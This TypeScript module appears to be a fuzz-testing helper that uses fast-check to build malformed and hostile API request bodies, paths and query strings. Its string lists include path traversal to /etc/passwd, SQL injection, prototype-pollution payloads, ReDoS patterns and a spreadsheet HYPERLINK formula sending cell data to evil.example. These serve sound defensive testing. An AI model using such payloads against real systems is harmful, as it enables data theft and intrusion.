// Generators of malformed and hostile request parts, and the JSON text builder that lets a body carry what
// JSON.stringify cannot write (raw number literals such as 1e999 or NaN, 1000-deep nesting, broken text).
import fc from 'fast-check';

/** JSON text placed into a body as it is. */
export class Raw {
  constructor(readonly text: string) {}
}

/** JSON text of a value; Raw parts are written as they are, lone surrogates as \uXXXX escapes (as JSON.stringify does). */
export function jsonText(value: unknown): string {
  if (value instanceof Raw) return value.text;
  if (value === undefined) return 'null';
  if (value === null || typeof value !== 'object') return JSON.stringify(value) ?? 'null';
  if (Array.isArray(value)) return `[${value.map(jsonText).join(',')}]`;
  return `{${Object.entries(value)
    .map(([k, v]) => `${JSON.stringify(k)}:${jsonText(v)}`)
    .join(',')}}`;
}

/** Sets a property as an own, enumerable one, even when it is named __proto__. */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown) {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

const MB = 1 << 20;
const nested = (depth: number, open: string, inner: string, close: string) =>
  new Raw(open.repeat(depth) + inner + close.repeat(depth));

/** One UTF-16 unit or code point of any kind: NUL, controls, lone surrogates, non-characters, astral. */
const anyChar = fc.oneof(
  { weight: 6, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  { weight: 2, arbitrary: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '\0',
      '\u2028',
      '\u2029',
      '\ufeff',
      '\uffff',
      '\ufffe',
      '"',
      '\\',
      "'",
      '{{',
      '}}',
      '%',
      '\n',
    ),
  },
);

/** Special values shared by strings everywhere: type-confusing words, number-looking text, injections. */
const TRICKY_STRINGS = [
  '',
  ' ',
  '\t',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '-1e999',
  '-0',
  '0x1F',
  '1_000',
  '１２３',
  'null',
  'true',
  'undefined',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '\0',
  'a\0b',
  '\0'.repeat(50),
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\udc00\ud800',
  '%00',
  '%ZZ',
  '../../etc/passwd',
  '{{x}}',
  '{{__proto__}}',
  '{{inputs.x}}',
  '{{ a }}{{',
  "' or 1=1 --",
  '$1',
  '\\u0000',
  '2026-13-45 25:61:61',
  '9999-12-31T23:59:59.999999999Z',
  '0000-01-01',
  '+275760-09-13T00:00:00.001Z',
  '2026-01-02T03:04:05+99:99',
  '6F1C8F7E-2F6B-4C39-9D7E-1D2A3B4C5D6E',
  '{6f1c8f7e-2f6b-4c39-9d7e-1d2a3b4c5d6e}',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'openai',
  'anthropic',
  'system',
  'user',
  'success',
  'error',
  'completed',
  'pending',
  'equals',
  'like',
  'score:',
  'annotation::',
  'metadata',
  'regex_match',
  'llm_judge',
  'json_schema',
  '(a+)+$',
  // From the outside probe of issue 30: an alternation that backtracks, a backreference (RE2 has none), a
  // spreadsheet formula, a search with no word, a private address in an IPv4-compatible IPv6 form, a path
  // that a browser reads as another origin.
  '^(a|a)+$',
  '(a)\\1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '&',
  'http://[::7f00:1]:18555/v1',
  '/\\evil.example',
  '[',
  '\\',
  'x'.repeat(513),
  'é'.repeat(300),
];

/** Strings of up to a megabyte, each with its own trouble: NUL, lone surrogates, multi-byte characters. */
const HUGE_STRINGS = [
  () => 'x'.repeat(MB),
  () => 'é'.repeat(MB / 2),
  () => 'ab\0'.repeat(MB / 3),
  () => 'a\ud800'.repeat(MB / 4),
  () => '😀'.repeat(MB / 4),
];
const hugeString = fc.constantFrom(...HUGE_STRINGS).map((make) => make());

export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: anyChar, maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...TRICKY_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: anyChar, minLength: 300, maxLength: 2000 }) },
);

/** Integers that never equal one of `avoid` (ids of rows the fuzzer must not name). */
function integerAvoiding(avoid: Set<number>) {
  return fc.integer().map((n) => (avoid.has(n) ? -n : n));
}

/** Numbers JSON can carry and some it cannot (written raw: NaN, Infinity, 1e999, 30 digits, malformed). */
function hostileNumber(avoid: Set<number>) {
  return fc.oneof(
    fc.constantFrom(
      1e308,
      -1e308,
      Number.MAX_VALUE,
      Number.MIN_VALUE,
      2 ** 53,
      2 ** 53 + 2,
      -(2 ** 53),
      2 ** 63,
      2 ** 64,
      2 ** 31,
      -(2 ** 31) - 1,
      -1,
      0,
      -0,
      0.5,
      1.0000001,
      1e-320,
      2.5,
      1e21,
    ),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    integerAvoiding(avoid),
    fc
      .constantFrom(
        '1e999',
        '-1e999',
        '1E400',
        '123456789012345678901234567890',
        '-0.0',
        '0.1e-400',
        'NaN',
        'Infinity',
        '-Infinity',
        '0.',
        '01',
        '+1',
        '.5',
        '1e',
        '0x10',
        '1_0',
      )
      .map((t) => new Raw(t)),
  );
}

/** Structures where scalars belong, nesting past the parser's limit and just under it, prototype keys. */
const hostileStructure = fc.oneof(
  fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], { '': null }, [{}], { 0: 1 }),
  fc.constantFrom(
    nested(1000, '[', '', ']'),
    nested(1000, '{"a":', '1', '}'),
    nested(257, '[', '1', ']'),
    nested(256, '{"k":', '"v"', '}'),
    nested(250, '{"k":', '"v"', '}'),
    nested(250, '[', '"\\u0000\\ud800"', ']'),
    new Raw('{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}'),
    new Raw('{"a":1,"a":2}'),
    new Raw(`[${Array(10_000).fill('1').join(',')}]`),
    new Raw(`{${Array.from({ length: 5000 }, (_, i) => `"k${i}":${i}`).join(',')}}`),
  ),
  fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 }),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
  fc.jsonValue({ maxDepth: 4 }),
);

/** Any hostile value for a field: a wrong type, a huge or raw number, a hostile or huge string, a structure. */
export function hostileValue(avoid: Set<number>, extra: unknown[] = []) {
  return fc.oneof(
    { weight: 6, arbitrary: hostileString },
    { weight: 4, arbitrary: hostileNumber(avoid) },
    { weight: 4, arbitrary: hostileStructure },
    { weight: 2, arbitrary: extra.length ? fc.constantFrom(...extra) : fc.constant(null) },
    { weight: 1, arbitrary: hugeString },
  );
}

/** What is sent instead of a JSON body: arbitrary bytes, broken or truncated JSON, other encodings and media types. */
export function rawPayload(validText: string) {
  const bytes = (...parts: (string | number[])[]) =>
    Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));
  const json = 'application/json';
  return fc.oneof(
    fc.uint8Array({ maxLength: 300 }).map((b) => ({ payload: Buffer.from(b), contentType: json })),
    fc.string({ unit: anyChar, maxLength: 200 }).map((s) => ({ payload: s, contentType: json })),
    fc
      .nat({ max: Math.max(0, validText.length - 1) })
      .map((n) => ({ payload: validText.slice(0, n), contentType: json })),
    fc
      .nat({ max: Math.max(0, validText.length - 1) })
      .map((n) => ({ payload: validText.slice(0, n) + '\u0000' + validText.slice(n), contentType: json })),
    fc.constantFrom(
      { payload: bytes([0xff, 0xfe], '{}'), contentType: json },
      { payload: bytes('{"project_name":"', [0xed, 0xa0, 0x80], '"}'), contentType: json }, // a surrogate's UTF-8 (CESU-8) bytes
      { payload: bytes('{"project_name":"a', [0xc0, 0x80], 'b"}'), contentType: json }, // an overlong NUL
      { payload: bytes('{"project_name":"a', [0], 'b"}'), contentType: json }, // a raw NUL byte inside a string
      { payload: bytes('{"project_name":"', [0xf8, 0x88, 0x80, 0x80, 0x80], '"}'), contentType: json },
      { payload: bytes([0xef, 0xbb, 0xbf], validText), contentType: json }, // a byte-order mark
      { payload: Buffer.from(validText, 'utf16le'), contentType: 'application/json; charset=utf-16' },
      { payload: validText, contentType: 'application/json; charset=latin1' },
      { payload: validText, contentType: 'APPLICATION/JSON' },
      { payload: validText, contentType: 'text/plain' },
      { payload: validText, contentType: 'application/octet-stream' },
      { payload: validText, contentType: 'application/jsonx' },
      { payload: 'a=1&b=2', contentType: 'application/x-www-form-urlencoded' },
      {
        payload: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
        contentType: 'multipart/form-data; boundary=x',
      },
      { payload: `${validText}${validText}`, contentType: json },
      { payload: validText.replace(/}$/, ',}'), contentType: json },
      { payload: validText.replaceAll('"', "'"), contentType: json },
      { payload: '', contentType: json },
      { payload: ' \n\t ', contentType: json },
      { payload: 'null', contentType: json },
      { payload: 'undefined', contentType: json },
      { payload: '"a string"', contentType: json },
      { payload: '12', contentType: json },
      { payload: 'NaN', contentType: json },
      { payload: '[]', contentType: json },
      { payload: '{"a":"\\ud800","\\udfff":"\\u0000","b\\u0000":1}', contentType: json },
      { payload: '{"a":"\\uZZZZ"}', contentType: json },
    ),
  );
}

/** Path segments that are no valid id: bad percent-encoding, NUL, invalid UTF-8, traversal, numbers of every kind. */
export const HOSTILE_SEGMENTS = [
  '%',
  '%zz',
  '%00',
  'a%00b',
  '%2e%2e',
  '..',
  '%2F',
  '%ED%A0%80',
  '%C0%80',
  '%FF',
  '-1',
  '0',
  '1e3',
  '1.5',
  '%201',
  '0x10',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  'x'.repeat(10_000),
  '%F0%9F%98%80',
  '__proto__',
  '..%2F..%2F',
  'a%3Fb%3Dc',
  '%23frag',
  '%27%20or%201%3D1%20--',
];

/** A path segment: hostile text percent-encoded (a lone surrogate as the invalid UTF-8 bytes it cannot have), or one of the above. */
export const hostileSegment = fc.oneof(
  { weight: 4, arbitrary: hostileString.filter((s) => s.length < 3000).map(urlText) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_SEGMENTS) },
);

export const HOSTILE_QUERIES = [
  '?a=1&a=2',
  '?name[]=x',
  '?name[a]=b',
  '?__proto__[polluted]=yes',
  '?constructor[prototype][polluted]=yes',
  '?%00=%00',
  '?=&&=',
  '?name=%ED%A0%80',
  '?name=%00',
  '?name=a%00b',
  '?name',
  '?name=&name=x',
  `?name=${'x'.repeat(20_000)}`,
  '?page=-1&page_size=1e9',
  '?x=%',
  '?x=%zz',
  '?api%5Fkey=sl-fuzz&API_KEY=sl-fuzz',
];

/** A query string appended to any URL. */
export const hostileQuery = fc.oneof(
  fc.constantFrom(...HOSTILE_QUERIES),
  fc.tuple(hostileString, hostileString).map(([k, v]) => `?${urlText(k)}=${urlText(v)}`),
);

/** Percent-encoded like encodeURIComponent, except that a lone surrogate becomes the bytes of its (invalid) UTF-8 form. */
export function urlText(s: string): string {
  return s.replace(/[^]/gu, (c) => (c.isWellFormed() ? encodeURIComponent(c) : '%ED%A0%80'));
}
